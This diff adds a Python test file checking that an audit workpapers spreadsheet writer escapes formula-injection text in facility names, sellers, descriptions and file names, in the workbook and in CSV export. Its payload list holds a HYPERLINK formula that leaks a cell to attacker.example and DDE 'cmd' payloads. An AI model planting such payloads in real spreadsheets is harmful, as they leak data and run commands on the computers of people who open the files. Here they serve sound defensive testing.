@@ -1,0 +1,48 @@
+"""Text that came from outside (a facility name, a seller, a goods name, a file name) is written
+into workpapers.xlsx as text that no spreadsheet runs, in the workbook or exported to CSV."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from openpyxl import load_workbook
+from test_report import march_records, march_run
+
+from verify.model.records import Document, DocumentKind
+from verify.report.workpapers import inert, write_workpapers
+
+PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"open")', "=cmd|' /C calc'!A0",
+            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "＝1+1"]
+
+
+def test_a_formula_start_is_kept_as_text_and_numbers_stay_numbers():
+    for payload in PAYLOADS:
+        assert inert(payload) == "'" + payload
+    assert inert("山西某焦化有限公司") == "山西某焦化有限公司"
+    assert inert(-37193.85) == -37193.85 and inert(None) is None
+
+
+def test_workpapers_hold_hostile_text_as_text(tmp_path):
+    run = march_run(facility_name=PAYLOADS[0])
+    run = run.model_copy(update={"documents": run.documents + [
+        Document(file=f"{p}.pdf", sha256="0" * 64, kind=DocumentKind.FUEL_INVOICE, pages=1)
+        for p in PAYLOADS[1:]]})
+    records = march_records()
+    invoice = records[0]
+    line = invoice.lines[0].model_copy(update={"description": PAYLOADS[4]})
+    records[0] = invoice.model_copy(update={"seller": PAYLOADS[2], "lines": [line]})
+    path = write_workpapers(run, records, tmp_path / "w.xlsx")
+
+    wb = load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    for payload in [PAYLOADS[0], PAYLOADS[2], PAYLOADS[4]] + [f"{p}.pdf" for p in PAYLOADS[1:]]:
+        assert "'" + payload in texts, payload
+    # exported as CSV, as a verifier might, no field starts a formula
+    for ws in wb.worksheets:
+        out = io.StringIO()
+        csv.writer(out).writerows(ws.iter_rows(values_only=True))
+        for row in csv.reader(io.StringIO(out.getvalue())):
+            assert not any(f.startswith(("=", "+", "@", "\t", "＝")) for f in row), row
